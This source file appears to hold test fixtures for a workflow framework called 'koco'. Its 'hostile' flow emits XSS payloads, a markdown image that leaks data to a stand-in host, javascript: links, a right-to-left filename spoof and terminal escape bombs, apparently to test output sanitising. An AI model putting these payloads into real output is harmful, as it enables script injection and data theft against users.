// oxlint-disable eslint/no-console -- a flow's console is captured into its run, and that is what is shown
import { defineFlow } from 'koco'
import { z } from 'zod'

/** A machine that nobody may be asked: whoever asks it has let an agent's text act. */
export const OUTSIDE = 'outside.invalid'

const SCRIPT = `<script>window.harmed = 'script'; fetch('https://${OUTSIDE}/script')</script>`
const ON_ERROR = `<img src="https://${OUTSIDE}/pixel.png" onerror="window.harmed = 'onerror'">`
const LINKS = `[click](javascript:window.harmed='link') [data](data:text/html,<script>parent.harmed='data'</script>) [fine](https://${OUTSIDE}/page)`
const IMAGE = `![secret](https://${OUTSIDE}/leak?what=secret)`
const STYLE = `<style>body { background: url(https://${OUTSIDE}/style) }</style><link rel="stylesheet" href="https://${OUTSIDE}/x.css">`
const RIGHT_TO_LEFT = 'invoice_\u202Efdp.exe \u2066hidden\u2069'
const BOMB = `\u001B[2J\u001B[999999999C\u001B]8;;javascript:window.harmed='osc'\u0007here\u001B]8;;\u0007${'\u001B[31m\u001B[1m\u001B[5m'.repeat(2_000)}red`
const HARD = [SCRIPT, ON_ERROR, LINKS, IMAGE, STYLE, RIGHT_TO_LEFT].join('\n\n')

/** Writes what an agent that was turned against its people would write. */
export const hostile = defineFlow({
  name: 'hostile',
  summary: `Writes hostile output ${ON_ERROR}`,
  description: HARD,
  inputs: z.object({ text: z.string().default(`${RIGHT_TO_LEFT} ${ON_ERROR}`) }),
  async run(_inputs, ctx) {
    console.log(BOMB)
    console.log(`${RIGHT_TO_LEFT} ${SCRIPT}`)
    for (let part = 0; part < 8; part += 1) console.log('x'.repeat(128 * 1024))
    ctx.result(ctx.markdown(HARD))
    ctx.result(ctx.html(`${HARD}<iframe src="https://${OUTSIDE}/frame"></iframe><form action="https://${OUTSIDE}/form"><button>Go</button></form>`))
    ctx.action('tool', { input: HARD })
    ctx.warning(`${RIGHT_TO_LEFT} ${SCRIPT}`)
    await ctx.step(ON_ERROR, () => HARD)
    await ctx.lock(ON_ERROR, { form: z.object({ go: z.boolean().describe(HARD) }), data: HARD })
    return ctx.html(HARD)
  },
})

/** A form that asks for something, and at once an end. */
export const asked = defineFlow({
  name: 'asked',
  summary: 'Takes a name of two letters or more and ends.',
  inputs: z.object({ name: z.string().min(2), note: z.string().optional() }),
  run: ({ name }) => ({ name }),
})

/** Fails at once, so that it can be retried. */
export const failing = defineFlow({
  name: 'failing',
  summary: 'Fails at once.',
  inputs: z.object({ n: z.number().int().default(0) }),
  run({ n }) {
    throw new Error(`number ${n} failed`)
  },
})

/** Waits for a person. */
export const waiting = defineFlow({
  name: 'waiting',
  summary: 'Waits for an answer.',
  inputs: z.object({ n: z.number().int().default(0) }),
  async run(_inputs, ctx) {
    return ctx.lock('go on?', { form: z.object({ go: z.boolean().default(true) }) })
  },
})

/** Two steps, the second from the first. */
export const stepping = defineFlow({
  name: 'stepping',
  summary: 'Takes two steps.',
  inputs: z.object({ n: z.number().int().default(0) }),
  async run({ n }, ctx) {
    const one = await ctx.step('one', () => n)
    return { one, two: await ctx.step('two', () => n * 2) }
  },
})

/** Spends 1 on a model in each of its steps. */
export const spending = defineFlow({
  name: 'spending',
  summary: 'Asks a model again and again.',
  inputs: z.object({ calls: z.number().int().default(3) }),
  async run({ calls }, ctx) {
    for (let key = 1; key <= calls; key += 1) {
      const tokens = { input_uncached: 900, cache_read: 50, output: 50 }
      await ctx.step('ask', { key }, () => ctx.model({ provider: 'acme', model: 'large', duration: 40, tokens, cost: 1 }))
    }
    return 'spent'
  },
})

/** Asks ann, and nobody else. */
export const signed = defineFlow({
  name: 'signed',
  summary: 'Waits for the signature of ann.',
  inputs: z.object({}),
  run: (_inputs, ctx) => ctx.lock('Sign it?', { form: z.object({ sign: z.boolean() }), data: 'The contract is ready.', assignees: ['ann'] }),
})

/** Asks vera, and ann too when she does not answer. */
export const refund = defineFlow({
  name: 'refund',
  summary: 'Waits for somebody who approves a refund.',
  inputs: z.object({}),
  run: (_inputs, ctx) =>
    ctx.lock('Refund it?', {
      form: z.object({ refund: z.boolean() }),
      assignees: ['vera'],
      escalate: [
        { after: '4s', assignees: ['ann'] },
        { after: '2h', roles: ['user'] },
      ],
    }),
})
